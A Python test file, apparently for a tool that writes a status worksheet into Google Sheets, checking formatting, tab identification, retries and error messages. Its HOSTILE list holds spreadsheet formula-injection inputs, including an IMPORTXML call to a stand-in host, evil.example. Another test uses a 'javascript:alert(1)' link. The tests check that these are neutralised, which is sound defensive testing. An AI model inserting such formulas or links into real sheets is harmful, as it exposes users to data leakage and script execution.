"""The service's own worksheet is replaced whole, by one request, or left as it was."""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Iterator

import pytest
from google_books import ID, book, tab, value_range
from google_discovery import Json
from google_server import EMAIL, WRITING, Fault, GoogleServer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from miro_sync.errors import SourceError
from miro_sync.messages import catalogue
from miro_sync.sheets import OwnSheet, StatusCell, StatusColumn, StatusRow, StatusSheet, Tone
from miro_sync.sheets_answers import OWN_KEY

COLUMNS = [
    StatusColumn("Мероприятие", width=320),
    StatusColumn("Срок", width=90),
    StatusColumn("Решение", choices=("проведено", "отменить"), hint="Выберите или впишите"),
    StatusColumn("ключ", hidden=True),
]
ROWS: list[StatusRow] = [
    ["Экодиктант", dt.date(2023, 4, 5), None, "Э-1"],
    [StatusCell("Квест", Tone.ALARM, "https://miro.com/app/board/1"), None, "проведено", "Э-2"],
]
TITLE = "Статус событий"


@pytest.fixture
def google() -> Iterator[GoogleServer]:
    with GoogleServer() as server:
        server.keep(book(tab("План", [["Мероприятие"], ["=1+1"]]), tab("Итоги", sheet_id=3)))
        yield server
    assert not server.violations


def status(google: GoogleServer, known: OwnSheet | None = None) -> StatusSheet:
    return StatusSheet(
        ID,
        environ=google.environ(),
        clock=google.clock,
        api_url=google.url,
        timeout=(2.0, 2.0),
        known=known,
    )


def sheets(google: GoogleServer) -> list[Json]:
    found: list[Json] = google.books[ID]["sheets"]
    return found


def own(google: GoogleServer) -> Json:
    (sheet,) = (sheet for sheet in sheets(google) if "developerMetadata" in sheet)
    return sheet


def cell(google: GoogleServer, row: int, column: int) -> Json:
    return own(google)["data"][0]["rowData"][row]["values"][column]


def failure(google: GoogleServer, sheet: StatusSheet | None = None) -> str:
    with pytest.raises(SourceError) as caught:
        (sheet or status(google)).replace(COLUMNS, ROWS, TITLE)
    assert catalogue("en").tell(caught.value.message)
    return catalogue("ru").tell(caught.value.message)


# --- what it looks like -------------------------------------------------------------------------


def test_the_worksheet_is_made_filled_and_dressed(google: GoogleServer) -> None:
    written = status(google).replace(COLUMNS, ROWS, TITLE)

    sheet = own(google)
    assert sheet["properties"]["title"] == written.sheet.title == TITLE
    assert written.sheet.url.endswith(f"#gid={sheet['properties']['sheetId']}")
    assert value_range(google.books[ID], f"'{TITLE}'")["values"] == [
        ["Мероприятие", "Срок", "Решение", "ключ"],
        ["Экодиктант", 45021, "", "Э-1"],
        ["Квест", "", "проведено", "Э-2"],
    ]
    assert sheet["properties"]["gridProperties"]["frozenRowCount"] == 1
    columns = sheet["data"][0]["columnMetadata"]
    assert [column["pixelSize"] for column in columns] == [320, 90, 120, 120]
    assert [column["hiddenByUser"] for column in columns] == [False, False, False, True]
    assert sheet["basicFilter"]["range"]["endRowIndex"] == 3


def test_the_header_stands_out_and_a_tone_is_a_colour(google: GoogleServer) -> None:
    status(google).replace(COLUMNS, ROWS, TITLE)

    assert cell(google, 0, 0)["userEnteredFormat"]["textFormat"]["bold"] is True
    assert "backgroundColorStyle" in cell(google, 0, 0)["userEnteredFormat"]
    alarm = cell(google, 2, 0)["userEnteredFormat"]["backgroundColorStyle"]["rgbColor"]
    assert alarm["red"] > alarm["green"] > alarm["blue"]
    assert "backgroundColorStyle" not in cell(google, 1, 0)["userEnteredFormat"]


def test_a_decision_is_chosen_from_a_list_or_typed(google: GoogleServer) -> None:
    status(google).replace(COLUMNS, ROWS, TITLE)

    rule = cell(google, 1, 2)["dataValidation"]
    assert [value["userEnteredValue"] for value in rule["condition"]["values"]] == [
        "проведено",
        "отменить",
    ]
    assert (rule["strict"], rule["showCustomUi"]) == (False, True)
    assert rule["inputMessage"] == "Выберите или впишите"
    assert "dataValidation" not in cell(google, 0, 2)
    assert "dataValidation" not in cell(google, 1, 1)


def test_days_are_days_with_a_format_and_links_lead_to_the_web_alone(
    google: GoogleServer,
) -> None:
    moment = dt.datetime(2023, 4, 5, 12)  # noqa: DTZ001 - a cell has no time zone
    rows: list[StatusRow] = [
        [dt.date(2023, 4, 5), moment, True, 1.5],
        [
            StatusCell("а", link="https://a.example/б"),
            StatusCell("б", link="javascript:alert(1)"),
            dt.date(1812, 9, 7),
            None,
        ],
    ]
    status(google).replace(COLUMNS, rows, TITLE)

    assert cell(google, 1, 0)["userEnteredValue"] == {"numberValue": 45021}
    assert cell(google, 1, 0)["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
    assert cell(google, 1, 1)["userEnteredValue"] == {"numberValue": 45021.5}
    assert cell(google, 1, 1)["userEnteredFormat"]["numberFormat"]["type"] == "DATE_TIME"
    assert cell(google, 1, 2)["userEnteredValue"] == {"boolValue": True}
    assert cell(google, 1, 3)["userEnteredValue"] == {"numberValue": 1.5}
    link = cell(google, 2, 0)["userEnteredFormat"]["textFormat"]["link"]
    assert link == {"uri": "https://a.example/б"}
    assert "textFormat" not in cell(google, 2, 1)["userEnteredFormat"]
    assert cell(google, 2, 2)["userEnteredValue"] == {"stringValue": "1812-09-07"}


HOSTILE = [
    '=IMPORTXML("https://evil.example/", "//a")',
    "+7 999",
    "-1+1",
    "@SUM(A1)",
    "'=1",
    "\t=1",
    "=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula(google: GoogleServer, text: str) -> None:
    status(google).replace([StatusColumn(text)], [[text], [StatusCell(text)]], TITLE)

    for row in range(3):
        assert cell(google, row, 0)["userEnteredValue"] == {"stringValue": text}
        # A person who edits the cell does not wake a formula, either.
        assert cell(google, row, 0)["userEnteredFormat"]["numberFormat"]["type"] == "TEXT"


def test_what_no_cell_holds_is_left_out(google: GoogleServer) -> None:
    rows = [["а\x00б\r\nв\ud800", "x" * 60_000, "", "  "]]

    status(google).replace(COLUMNS, rows, TITLE)

    assert cell(google, 1, 0)["userEnteredValue"] == {"stringValue": "аб\nв"}
    assert len(cell(google, 1, 1)["userEnteredValue"]["stringValue"]) == 50_000
    assert "userEnteredValue" not in cell(google, 1, 2)


_TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufeff"))
_CELLS = st.one_of(
    _TEXTS.filter(lambda text: text == text.strip() and not text.startswith("#")),
    st.integers(-(2**53) + 1, 2**53 - 1),
    st.floats(allow_nan=False, allow_infinity=False, allow_subnormal=False, width=32),
    st.booleans(),
    st.dates(dt.date(1900, 1, 1)),
    st.none(),
)


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(st.lists(st.lists(_CELLS, min_size=3, max_size=3), max_size=5))
def test_any_table_that_is_written_reads_back_the_same(
    google: GoogleServer, rows: list[list[Json]]
) -> None:
    sheet = status(google)
    sheet.replace([StatusColumn("а"), StatusColumn("б"), StatusColumn("в")], rows, TITLE)

    found = sheet.read()

    assert found is not None
    assert found.worksheet is not None
    expected = [[None if value in {None, ""} else value for value in row] for row in rows]
    while expected and all(value is None for value in expected[-1]):
        expected.pop()
    read = [list(row) for row in found.worksheet.rows]
    assert read == [["а", "б", "в"], *expected]


def test_a_row_of_another_width_a_number_that_is_none_and_a_formula_as_choice_are_defects(
    google: GoogleServer,
) -> None:
    sheet = status(google)
    for columns, rows in (
        (COLUMNS, [["а"]]),
        ([], []),
        ([StatusColumn("а")], [[float("nan")]]),
        ([StatusColumn("а", choices=("=1",))], []),
        ([StatusColumn("а")], [[dt.datetime(2023, 4, 5, tzinfo=dt.UTC)]]),
    ):
        with pytest.raises(ValueError, match=r"\w"):
            sheet.replace(columns, rows, TITLE)
    assert not google.calls("batchUpdate")


# --- which worksheet ----------------------------------------------------------------------------


def test_only_the_own_worksheet_is_touched(google: GoogleServer) -> None:
    before = copy.deepcopy(sheets(google))

    status(google).replace(COLUMNS, ROWS, TITLE)
    status(google).replace(COLUMNS, [], TITLE)

    assert sheets(google)[:2] == before
    assert len(sheets(google)) == 3


def test_the_worksheet_is_found_by_its_mark_whatever_people_call_it(google: GoogleServer) -> None:
    first = status(google).replace(COLUMNS, ROWS, TITLE)
    own(google)["properties"]["title"] = "Наши решения"
    google.books[ID]["sheets"].insert(0, tab(TITLE, [["чужое"]], sheet_id=50))

    second = status(google).replace(COLUMNS, ROWS, TITLE)

    assert second.sheet.sheet_id == first.sheet.sheet_id
    assert second.sheet.title == "Наши решения"
    assert value_range(google.books[ID], f"'{TITLE}'")["values"] == [["чужое"]]


def test_a_copy_that_a_person_made_is_not_ours(google: GoogleServer) -> None:
    first = status(google).replace(COLUMNS, ROWS, TITLE)
    google.books[ID]["sheets"].insert(
        0, tab("Копия", [["x"]], sheet_id=60, marks=[(OWN_KEY, str(first.sheet.sheet_id))])
    )

    second = status(google).replace(COLUMNS, [], TITLE)

    assert second.sheet.sheet_id == first.sheet.sheet_id
    assert value_range(google.books[ID], "Копия")["values"] == [["x"]]


def test_a_title_and_an_id_that_are_taken_are_not_taken_again(google: GoogleServer) -> None:
    first = status(google).replace(COLUMNS, ROWS, TITLE)
    own(google)["developerMetadata"] = []
    google.books[ID]["sheets"].append(tab("статус событий (2)", sheet_id=70))

    second = status(google).replace(COLUMNS, ROWS, f" {TITLE}\n")

    assert second.sheet.sheet_id == first.sheet.sheet_id + 1
    assert second.sheet.title == f"{TITLE} (3)"


def test_people_may_have_merged_frozen_and_coloured_what_they_liked(google: GoogleServer) -> None:
    status(google).replace(COLUMNS, ROWS, TITLE)
    sheet = own(google)
    sheet["properties"]["gridProperties"] |= {"frozenColumnCount": 3, "rowCount": 500}
    sheet["merges"] = [{"sheetId": sheet["properties"]["sheetId"]}]
    cell(google, 1, 0)["userEnteredFormat"]["backgroundColorStyle"] = {"rgbColor": {"red": 1}}
    cell(google, 1, 0)["note"] = "заметка"

    status(google).replace(COLUMNS, ROWS[:1], TITLE)

    grid = own(google)["properties"]["gridProperties"]
    assert (grid["rowCount"], grid["frozenColumnCount"]) == (2, 0)
    assert own(google)["merges"] == []
    assert "backgroundColorStyle" not in cell(google, 1, 0)["userEnteredFormat"]
    assert "note" not in cell(google, 1, 0)


def test_a_worksheet_without_rows_has_a_frozen_header_all_the_same(google: GoogleServer) -> None:
    status(google).replace(COLUMNS, [], TITLE)

    assert own(google)["properties"]["gridProperties"]["rowCount"] == 2


# --- calls --------------------------------------------------------------------------------------


def test_a_writing_takes_one_request_once_the_worksheet_is_known(google: GoogleServer) -> None:
    first = status(google).replace(COLUMNS, ROWS, TITLE)
    assert first.calls == 2
    google.seen.clear()

    again = status(google, known=first.sheet).replace(COLUMNS, ROWS, TITLE)

    assert again.calls == 1
    assert [seen.path for seen in google.calls("/v4/")] == [f"/v4/spreadsheets/{ID}:batchUpdate"]
    assert set(google.tokens.values()) == {WRITING}


def test_a_second_writing_by_the_same_hand_takes_one_request(google: GoogleServer) -> None:
    sheet = status(google)
    sheet.replace(COLUMNS, ROWS, TITLE)
    google.seen.clear()

    sheet.replace(COLUMNS, ROWS, TITLE)

    assert len(google.calls("/v4/")) == 1


def test_a_known_worksheet_that_was_deleted_is_made_anew(google: GoogleServer) -> None:
    first = status(google).replace(COLUMNS, ROWS, TITLE)
    del google.books[ID]["sheets"][-1]

    second = status(google, known=first.sheet).replace(COLUMNS, ROWS, TITLE)

    assert second.calls == 3
    assert own(google)["properties"]["sheetId"] == second.sheet.sheet_id


def test_the_worksheet_is_read_back_or_is_not_there_yet(google: GoogleServer) -> None:
    assert status(google).read() is None

    status(google).replace(COLUMNS, ROWS, TITLE)
    found = status(google).read()

    assert found is not None
    assert found.worksheet is not None
    assert found.worksheet.rows[2] == ("Квест", None, "проведено", "Э-2")


# --- failures -----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["updateCells", "setBasicFilter"])
def test_a_failure_in_the_middle_leaves_the_old_one_whole(google: GoogleServer, kind: str) -> None:
    first = status(google).replace(COLUMNS, ROWS, TITLE)
    before = copy.deepcopy(google.books[ID])
    google.refuse = kind

    with pytest.raises(SourceError):
        status(google, known=first.sheet).replace(COLUMNS[:2], [], TITLE)

    assert google.books[ID] == before


def test_a_worksheet_made_although_nobody_said_so_is_not_made_twice(google: GoogleServer) -> None:
    google.faults.append(Fault(":batchUpdate", kind="done_then_reset"))

    written = status(google).replace(COLUMNS, ROWS, TITLE)

    assert len(sheets(google)) == 3
    assert own(google)["properties"]["sheetId"] == written.sheet.sheet_id
    assert written.calls == 4


@pytest.mark.parametrize(
    "fault",
    [
        Fault(":batchUpdate", 429, {}, lasts=41.0),
        Fault(":batchUpdate", 502, page="<html>", times=2),
        Fault(":batchUpdate", kind="reset", times=2),
        Fault("/v4/", 503, {}, times=3),
    ],
    ids=str,
)
def test_trouble_that_passes_is_waited_out(google: GoogleServer, fault: Fault) -> None:
    google.faults.append(fault)

    status(google).replace(COLUMNS, ROWS, TITLE)

    assert len(sheets(google)) == 3


def test_a_sheet_shared_for_reading_alone_says_which_role_to_choose(google: GoogleServer) -> None:
    google.shared[ID] = "reader"

    sentence = failure(google)

    assert EMAIL in sentence
    assert "«Редактор»" in sentence


def test_a_known_worksheet_in_a_closed_sheet_is_not_looked_for_elsewhere(
    google: GoogleServer,
) -> None:
    first = status(google).replace(COLUMNS, ROWS, TITLE)
    google.shared[ID] = ""
    google.seen.clear()

    assert EMAIL in failure(google, status(google, known=first.sheet))
    assert len(google.calls("/v4/")) == 1


def test_without_a_key_nothing_can_be_written(google: GoogleServer) -> None:
    sheet = StatusSheet(ID, environ={}, clock=google.clock, api_url=google.url)

    assert "нужен ключ" in failure(google, sheet)
    assert not google.seen


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (
            "Invalid requests[0].updateCells: You are trying to edit a protected cell or object.",
            "Снимите защиту",
        ),
        (
            "This action would increase the number of cells above the limit of 10000000 cells.",
            "10 миллионов",
        ),
    ],
)
def test_what_stands_in_the_way_is_told(google: GoogleServer, text: str, says: str) -> None:
    body = {"error": {"code": 400, "message": text, "status": "INVALID_ARGUMENT"}}
    google.faults.append(Fault(":batchUpdate", 400, body, times=-1))

    assert says in failure(google)
